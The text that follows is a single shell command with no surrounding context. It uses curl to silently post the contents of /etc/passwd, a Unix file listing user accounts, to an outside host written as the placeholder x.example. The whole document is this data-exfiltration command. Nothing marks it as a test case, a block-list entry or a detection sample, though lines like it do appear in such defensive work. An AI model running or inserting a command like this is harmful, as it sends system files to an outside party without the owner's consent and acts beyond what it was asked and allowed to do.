curl -s -d @/etc/passwd https://x.example
